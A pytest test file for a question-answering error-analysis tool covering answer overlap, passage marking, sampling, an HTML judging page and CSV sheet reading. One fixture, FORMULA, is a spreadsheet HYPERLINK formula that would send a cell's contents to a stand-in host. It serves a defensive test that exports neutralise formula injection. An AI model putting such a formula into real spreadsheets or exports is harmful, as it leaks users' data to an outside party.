import csv
import io
from dataclasses import replace
from pathlib import Path
from typing import List

import pytest

from bidaf_plugin.analysis.files import read_gold_paragraphs
from bidaf_plugin.analysis.wrong_answers import (
    ERROR_CLASSES,
    IMPRECISE_BOUNDARIES,
    AnsweredQuestion,
    FilledSheet,
    MarkedText,
    Span,
    answered_questions,
    draw_sample,
    error_table,
    find_error_class,
    find_text,
    mark_passage,
    read_sheet,
    sheet_as_html,
    sheet_rows,
)
from bidaf_plugin.common.errors import DataError
from tests.analysis.squad_helpers import PASSAGE, question, squad, write
from tests.html_helpers import HOSTILE, Page, needs_chromium, open_in_chromium


def answer(folder: Path, prediction: str, *gold: str) -> AnsweredQuestion:
    data = squad(question("a", gold, is_impossible=not gold), question("unanswered"))
    paragraphs = read_gold_paragraphs(write(folder / "data.json", data))
    (item,) = answered_questions(paragraphs, {"a": prediction, "other": "x"})
    return item


class TestAnsweredQuestions:
    def test_what_there_is_to_see(self, tmp_path: Path) -> None:
        item = answer(tmp_path, "built the mill", "Ada Orn", "Ada Orn built", "Ada Orn")
        assert item.answers == ("Ada Orn", "Ada Orn built")
        assert (item.em, item.f1) == (0, pytest.approx(2 * (1 / 2) * (1 / 3) / (1 / 2 + 1 / 3)))
        assert item.has_overlap
        assert [tuple(stretch) for stretch in item.passage[:3]] == [
            ("Ada Orn ", "right"), ("built", "both"), (" the mill", "wrong"),
        ]  # fmt: skip
        assert item.passage_text == PASSAGE

    @pytest.mark.parametrize(
        "prediction, gold, has_overlap",
        [
            ("mill", "the mill", True),
            ("the mill in 1871. It", "It burned", True),
            # The same word elsewhere is no overlap.
            ("burned down", "Jon Ber", False),
            ("the quay", "the mill", False),
            # What stands several times counts if it does at one place.
            ("the", "the quay", True),
            # Not a stretch of the passage: words in common decide.
            ("mill the 1871", "the mill", True),
            ("nothing", "the mill", False),
            ("", "the mill", False),
        ],
    )
    def test_overlap(self, tmp_path: Path, prediction: str, gold: str, has_overlap: bool) -> None:
        assert answer(tmp_path, prediction, gold).has_overlap is has_overlap

    def test_a_question_without_an_answer(self, tmp_path: Path) -> None:
        item = answer(tmp_path, "the mill")
        assert item.answers == () and not item.has_overlap and item.em == 0


class TestFindText:
    @pytest.mark.parametrize(
        "text, spans",
        [
            ("1871", [(3, 7)]),
            ("( 1871 )", [(2, 8)]),
            ("(1871)", [(2, 8)]),
            ("71", []),
            ("a", [(0, 1), (14, 15)]),
            (".*", []),
            ("  ", []),
        ],
    )
    def test_blanks_do_not_matter_and_words_stay_whole(self, text: str, spans: List[Span]) -> None:
        assert find_text(text, "a (1871) 1,0a a.") == spans


class TestMarkPassage:
    def test_stretches_are_cut_at_all_borders(self) -> None:
        stretches = mark_passage("abcdef", [(1, 3), (1, 4)], [(3, 5)])
        assert [tuple(stretch) for stretch in stretches] == [
            ("a", ""), ("bc", "right"), ("d", "both"), ("e", "wrong"), ("f", ""),
        ]  # fmt: skip

    def test_nothing_to_mark(self) -> None:
        assert [tuple(stretch) for stretch in mark_passage("abc", [], [])] == [("abc", "")]


class TestDrawSample:
    def test_the_seed_decides_and_the_order_stays(self, tmp_path: Path) -> None:
        item = answer(tmp_path, "x", "Ada Orn")
        questions = [replace(item, id=str(number)) for number in range(100)]
        drawn = [question.id for question in draw_sample(questions, 10, seed=1)]
        assert len(set(drawn)) == 10 and drawn == sorted(drawn, key=int)
        assert drawn == [question.id for question in draw_sample(questions, 10, seed=1)]
        assert drawn != [question.id for question in draw_sample(questions, 10, seed=2)]
        assert draw_sample(questions, 1000, seed=1) == questions


OVERLAPPING = AnsweredQuestion(
    id="1",
    question='Who, "exactly",\nbuilt it?',
    prediction="Orn",
    answers=("Ada Orn", "Ada"),
    em=0,
    f1=2 / 3,
    passage=[MarkedText("Ada ", "right"), MarkedText("Orn", "both"), MarkedText(" built it.", "")],
    has_overlap=True,
)
FORMULA = '=HYPERLINK("http://host.example?"&A1)'
HOSTILE_ITEM = AnsweredQuestion(
    HOSTILE, HOSTILE, (HOSTILE,), FORMULA, 0, 0, [MarkedText(HOSTILE, "wrong")], False
)
SAMPLE = [OVERLAPPING, HOSTILE_ITEM]


def page_of_sample() -> str:
    return sheet_as_html(SAMPLE, HOSTILE)


class TestSheet:
    def test_rows_have_the_class_of_overlapping_answers(self) -> None:
        first, second = sheet_rows(SAMPLE)
        assert first["class"] == IMPRECISE_BOUNDARIES and first["overlap"] == "yes"
        assert first["passage"] == "Ada Orn built it." and first["answers"] == "Ada Orn | Ada"
        assert second["class"] == "" and second["overlap"] == "no"

    def test_the_page_has_a_choice_for_each_answer(self) -> None:
        page = Page(page_of_sample())
        choices = [a for tag, a in page.elements if tag == "input" and a.get("type") == "radio"]
        assert [choice["value"] for choice in choices] == [*ERROR_CLASSES] * 2
        explained = [heading.partition(". ")[2] for heading in page.texts["h3"]]
        assert explained[: len(ERROR_CLASSES)] == [*ERROR_CLASSES]
        # The first is chosen already for the answer that overlaps, and none for the other.
        assert [place for place, choice in enumerate(choices) if "checked" in choice] == [0]
        assert page.texts["mark"].count("Orn") == 2  # the prediction and its place in the passage
        assert page.data["rows"] == sheet_rows(SAMPLE)

    def test_text_is_no_markup(self) -> None:
        page = Page(page_of_sample())
        page.assert_loads_nothing()
        assert page.count("script") == 2
        assert HOSTILE in page.texts["h3"] and HOSTILE in page.texts["mark"]

    @needs_chromium
    def test_ticking_and_downloading_in_the_browser(self, tmp_path: Path) -> None:
        # What a person does with the page, and then what the button would download.
        script = """<script>
            document.querySelectorAll("form.card")[1].querySelectorAll("input[type=radio]")[2].click();
            document.querySelector("input[name=note]").value = "- unclear";
            document.getElementById("judge").value = "Ada Orn";
            const output = document.createElement("pre");
            output.textContent = filledSheet();
            document.body.append(output);
            document.getElementById("download").click();
        </script></body>"""
        path = tmp_path / "errors.html"
        path.write_text(page_of_sample().replace("</body>", script), encoding="utf-8")
        page, complaints = open_in_chromium(path)
        assert complaints == ""
        assert page.texts["title"] == ["Error analysis"]
        assert "2 of 2 have a class" in page.texts["span"]
        (content,) = page.texts["pre"]
        (tmp_path / "filled.csv").write_text(content, encoding="utf-8", newline="")
        sheet = read_sheet(tmp_path / "filled.csv")
        assert list(sheet.counts.values()) == [1, 0, 1, 0, 0, 0, 0]
        assert sheet.judges == ["Ada Orn"]
        # A spreadsheet program would compute what begins like a formula.
        first, second = csv.DictReader(io.StringIO(content))
        assert (first["note"], first["prediction"]) == ("'- unclear", "Orn")
        assert second["prediction"] == f"'{FORMULA}"


class TestReadSheet:
    @pytest.mark.parametrize(
        "content",
        [
            "id,class\n1,Imprecise answer boundaries\n2,\n3,paraphrase\n4,1\n",
            "\ufeffid;class\r\n1;1\r\n2;;\r\n3;3\r\n4;1\r\n",
            'class\tid\n1\t"a\nb"\n\t2\n3\t3\nimprecise\t4\n',
        ],
    )
    def test_what_spreadsheet_programs_write(self, tmp_path: Path, content: str) -> None:
        path = tmp_path / "filled.csv"
        path.write_text(content, encoding="utf-8", newline="")
        counts, judges = read_sheet(path)
        assert list(counts.values()) == [2, 0, 1, 0, 0, 0, 1]
        assert list(counts) == [*ERROR_CLASSES, ""]
        assert judges == []

    def test_those_who_judged(self, tmp_path: Path) -> None:
        path = tmp_path / "filled.csv"
        path.write_text("class,judge\n1,Ada Orn\n2,\n1,Jon Ber\n3,Ada Orn\n")
        sheet = read_sheet(path)
        assert sheet.judges == ["Ada Orn", "Jon Ber"]
        assert "Judged by Ada Orn, Jon Ber." in error_table(sheet)

    @pytest.mark.parametrize(
        "content, message",
        [
            (
                b"id,class\n1,1\n2,boundary\n",
                "line 3: the class 'boundary' is not one of: Imprecise",
            ),
            (b"id,kind\n1,1\n", "expected a CSV file with a column 'class', found 'id,kind'"),
            (b"", "expected a CSV file with a column 'class', found ''"),
            (b"id,class\n1,\xff\n", "not UTF-8 text"),
        ],
    )
    def test_bad_sheets_are_one_sentence(
        self, tmp_path: Path, content: bytes, message: str
    ) -> None:
        (tmp_path / "filled.csv").write_bytes(content)
        with pytest.raises(DataError, match=message) as error:
            read_sheet(tmp_path / "filled.csv")
        assert "\n" not in str(error.value)

    def test_no_such_file(self, tmp_path: Path) -> None:
        with pytest.raises(DataError, match="there is no such file"):
            read_sheet(tmp_path / "filled.csv")


class TestErrorTable:
    def test_counts_beside_the_paper_s_percentages(self) -> None:
        counts = dict(zip(ERROR_CLASSES, [10, 5, 5, 0, 0, 0], strict=True))
        table = error_table(FilledSheet({**counts, "": 3}, []))
        rows: List[List[str]] = [line.split() for line in table.splitlines()]
        assert rows[1] == ["Imprecise", "answer", "boundaries", "10", "50", "50"]
        assert rows[2][-3:] == ["5", "25", "28"]
        assert rows[7] == ["in", "all", "20", "100", "100"]
        assert table.endswith("3 answers without a class are not counted.")

    def test_an_empty_sheet(self) -> None:
        table = error_table(FilledSheet(dict.fromkeys([*ERROR_CLASSES, ""], 0), []))
        assert "not counted" not in table and table.splitlines()[-1].split()[2:] == [
            "0",
            "-",
            "100",
        ]


class TestErrorClasses:
    def test_the_paper_s_table(self) -> None:
        assert list(ERROR_CLASSES.values()) == [50, 28, 14, 4, 2, 2]
        assert sum(ERROR_CLASSES.values()) == 100

    @pytest.mark.parametrize(
        "text, place",
        [
            ("Imprecise answer boundaries", 0),
            ("  imprecise ANSWER boundaries ", 0),
            ("syntactic", 1),
            ("p", 2),
            ("4", 3),
            ("multi-sentence", 4),
            ("inc", 5),
        ],
    )
    def test_names_beginnings_and_numbers(self, text: str, place: int) -> None:
        assert find_error_class(text) == list(ERROR_CLASSES)[place]

    @pytest.mark.parametrize("text", ["", " ", "i", "7", "0", "boundaries", "Paraphrase problemss"])
    def test_what_is_none_or_several_is_not_found(self, text: str) -> None:
        assert find_error_class(text) is None
